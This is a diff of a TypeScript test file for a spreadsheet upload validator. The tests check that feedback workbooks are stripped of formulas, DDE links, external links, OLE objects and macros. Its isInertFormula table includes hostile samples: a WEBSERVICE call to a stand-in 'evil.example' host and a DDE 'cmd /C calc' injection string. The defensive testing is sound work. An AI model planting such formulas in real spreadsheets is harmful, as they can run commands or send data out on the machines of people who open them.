@@ -7,11 +7,13 @@ import { readdir, readFile } from 'node:fs/promises';
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
+import { ACTIVE_BASE, ACTIVE_CELLS, ACTIVE_SHEET, activeContentUpload, EVIL } from '../../fixtures/workbooks/active-content.ts';
 import { buildCase, CASES } from '../../fixtures/workbooks/cases.ts';
 import { caseFile } from '../../fixtures/workbooks/make.ts';
 import type { UploadKey } from '../../functions/core/ingest.ts';
 import { META_SHEET } from '../../functions/core/layout.ts';
 import { writeWorkbookBuffer } from '../../functions/core/render/deterministic.ts';
+import { activeContentOf, isInertFormula } from '../../functions/core/render/inert.ts';
 import { buildFeedback, expandedCells, FEEDBACK_SHEET, feedbackKeyOf, MARK_ARGB, MAX_EXPANDED_CELLS, MAX_LISTED, NOTE_PREFIX, renderFeedback, type FeedbackContext } from '../../functions/core/render/feedback.ts';
 import type { Issue, Report } from '../../functions/core/report.ts';
 import { validateUpload } from '../../functions/core/validate/index.ts';
@@ -87,6 +89,34 @@ function values(wb: ExcelJS.Workbook, sheet: string): Record<string, unknown> {
   const out: Record<string, unknown> = {};
   // a merged cell's others read as its master: only the master holds the value
   wb.getWorksheet(sheet)!.eachRow((row) => row.eachCell((cell) => void (cell.isMerged && cell.master !== cell ? undefined : (out[cell.address] = cell.value))));
+  return out;
+}
+
+/** What a reader finds in the bytes, read with JSZip (not our own zip reader): cell formulas, external targets, parts. */
+async function scan(bytes: Uint8Array): Promise<{ formulas: string[]; external: string[]; parts: string[] }> {
+  const zip = await JSZip.loadAsync(bytes);
+  const out = { formulas: [] as string[], external: [] as string[], parts: [] as string[] };
+  for (const [name, file] of Object.entries(zip.files)) {
+    if (file.dir) continue;
+    out.parts.push(name);
+    const xml = await file.async('string');
+    if (/<(?:\w+:)?f[\s>\/]/.test(xml)) out.formulas.push(name);
+    if (/TargetMode\s*=\s*["']External["']/i.test(xml)) out.external.push(name);
+  }
+  return out;
+}
+
+/** What each cell shows: a formula's cached result, a hyperlink's text, else its value. */
+function shown(wb: ExcelJS.Workbook, sheet: string): Record<string, unknown> {
+  const out: Record<string, unknown> = {};
+  wb.getWorksheet(sheet)!.eachRow((row) =>
+    row.eachCell((cell) => {
+      if (cell.isMerged && cell.master !== cell) return;
+      if (cell.type === ExcelJS.ValueType.Formula) out[cell.address] = cell.result ?? null;
+      else if (cell.type === ExcelJS.ValueType.Hyperlink) out[cell.address] = (cell.value as ExcelJS.CellHyperlinkValue).text;
+      else out[cell.address] = cell.value;
+    }),
+  );
   return out;
 }
 
@@ -265,7 +295,7 @@ describe('fallbacks', () => {
     expect(info.get('结论')).toBe('未通过');
   });
 
-  it('every hostile fixture gives a feedback workbook that opens, 校验结果 first', async () => {
+  it('every hostile fixture gives a feedback workbook that opens, 校验结果 first, with nothing active in it', async () => {
     const dir = new URL('../../fixtures/hostile/', import.meta.url);
     const names = (await readdir(dir)).filter((n) => !n.endsWith('.ts'));
     expect(names.length).toBeGreaterThan(40);
@@ -277,6 +307,8 @@ describe('fallbacks', () => {
       const wb = await load(result.bytes);
       expect(wb.worksheets[0]!.name, name).toBe(FEEDBACK_SHEET);
       expect(table(wb).rows.length, name).toBe(Math.min(report.issues.length, MAX_LISTED));
+      const after = await scan(result.bytes);
+      expect([after.formulas, after.external, activeContentOf(result.bytes)], name).toEqual([[], [], []]);
     }
     expect(modes.get('encrypted.xlsx')).toBe('summary');
     expect(modes.get('baseline.xlsx')).toBe('in-place');
@@ -385,6 +417,93 @@ describe('fallbacks', () => {
     expect(rows[0]![7]).toBe('最后一项是错误');
     expect(info.get('问题数')).toContain(`下表列出前 ${MAX_LISTED} 项`);
   });
+});
+
+describe('the marked-up workbook acts on nothing when opened', () => {
+  it('an upload with formulas, DDE, hyperlinks, external links, names, rules and an OLE object: marked in place, all of it gone, every value as shown', async () => {
+    const bytes = await activeContentUpload();
+    // the upload really carries it all (the checks can fail)
+    const before = await scan(bytes);
+    expect(before.formulas).toContain('xl/worksheets/sheet2.xml');
+    expect(before.external.sort()).toEqual(['xl/externalLinks/_rels/externalLink2.xml.rels', 'xl/worksheets/_rels/sheet2.xml.rels']);
+    expect(before.parts).toEqual(expect.arrayContaining(['xl/externalLinks/externalLink1.xml', 'xl/embeddings/oleObject1.bin']));
+    const found = activeContentOf(bytes).join('\n');
+    for (const what of ['cell formula', 'part xl/externalLinks/externalLink1.xml', 'part xl/embeddings/oleObject1.bin', '<externalReference>', '<oleObject>', 'external relationship hyperlink', '<definedName>', '<formula>', '<formula1>']) {
+      expect(found).toContain(what);
+    }
+
+    const { report } = await validateUpload(bytes, { definitions: bundledSource(), ...ACTIVE_BASE.options, now: NOW });
+    expect(report.issues.filter((i) => i.severity === 'error').map((i) => [i.cell, i.code])).toEqual([['D14', 'rule-violation']]);
+    const result = await buildFeedback(bytes, report, CONTEXT);
+    expect(result.mode).toBe('in-place');
+
+    const after = await scan(result.bytes);
+    expect(after.formulas).toEqual([]);
+    expect(after.external).toEqual([]);
+    expect(after.parts.filter((p) => /externalLink|embeddings|vbaProject|activeX|connections/i.test(p))).toEqual([]);
+    expect(activeContentOf(result.bytes)).toEqual([]);
+    // the address is left only as text: the formula quoted in an issue's message and note
+    const parts = Object.entries((await JSZip.loadAsync(result.bytes)).files);
+    const mentions = [];
+    for (const [name, file] of parts) if (!file.dir && (await file.async('string')).includes(EVIL)) mentions.push(name);
+    expect(mentions.filter((name) => !/^xl\/(sharedStrings|comments\d+)\.xml$|vmlDrawing/.test(name))).toEqual([]);
+
+    // values shown exactly as submitted, the problem cell marked
+    const wb = await load(result.bytes);
+    const original = await load(bytes);
+    const ws = wb.getWorksheet(ACTIVE_SHEET)!;
+    for (const [address, { shows }] of Object.entries(ACTIVE_CELLS)) expect(ws.getCell(address).value, address).toEqual(shows);
+    for (const sheet of original.worksheets) expect(values(wb, sheet.name), sheet.name).toEqual(shown(original, sheet.name));
+    expect(argbOf(ws.getCell('D14'))).toBe(MARK_ARGB.error);
+    // the template's own validations stay: plain numbers and lists
+    expect(ws.getCell('D12').dataValidation).toMatchObject({ type: 'whole', formulae: [0] });
+    expect(ws.getCell('D13').dataValidation?.type).not.toBe('custom');
+  });
+
+  it('the same with a VBA project: refused as macro-enabled, and its feedback carries nothing of it', async () => {
+    const bytes = await activeContentUpload({ macro: true });
+    expect((await scan(bytes)).parts).toContain('xl/vbaProject.bin');
+    const { report } = await validateUpload(bytes, { definitions: bundledSource(), ...ACTIVE_BASE.options, now: NOW });
+    expect(report.issues.map((i) => i.code)).toEqual(['file-macro-enabled']);
+    const result = await buildFeedback(bytes, report, CONTEXT);
+    expect(result.mode).toBe('summary');
+    const after = await scan(result.bytes);
+    expect([after.formulas, after.external, after.parts.filter((p) => /vba|externalLink|embeddings/i.test(p))]).toEqual([[], [], []]);
+  });
+
+  it('every case fixture: no formula, no external target, nothing active in the feedback workbook; cached values shown (hostile fixtures: under fallbacks)', async () => {
+    expect(CASES.length).toBeGreaterThan(50);
+    for (const c of CASES) {
+      const { bytes, report } = await fixture(c.name);
+      const result = await buildFeedback(bytes, report, CONTEXT);
+      const after = await scan(result.bytes);
+      expect([after.formulas, after.external, activeContentOf(result.bytes)], c.name).toEqual([[], [], []]);
+      // the formula cases are marked in place, showing their cached results
+      const cached = ({ 'formula-cached': ['D8', 18000], 'formula-cached-zero': ['D32', 0] } as Record<string, [string, number]>)[c.name];
+      if (cached) {
+        expect((await scan(bytes)).formulas, c.name).toContain('xl/worksheets/sheet2.xml');
+        expect(result.mode, c.name).toBe('in-place');
+        expect((await load(result.bytes)).getWorksheet('基层月报')!.getCell(cached[0]).value, c.name).toBe(cached[1]);
+      }
+    }
+  });
+});
+
+describe('isInertFormula', () => {
+  it.each([
+    ['0', true],
+    ['36526', true],
+    ['"未启动,推进中,已完成,已滞后"', true],
+    ['"x(y)"', true],
+    ["'基层月报(2)'!$D$8", true],
+    ['$D$8:$D$36', true],
+    ['D8>0', true],
+    ['WEBSERVICE("http://evil.example")', false],
+    ["cmd|' /C calc'!A0", false],
+    ['[1]Sheet1!A1', false],
+    ["'[1]Sheet1'!A1", false],
+    ['SUM(D8:D9)', false],
+  ])('%s → %s', (formula, inert) => expect(isInertFormula(formula)).toBe(inert));
 });
 
 describe('feedbackKeyOf', () => {
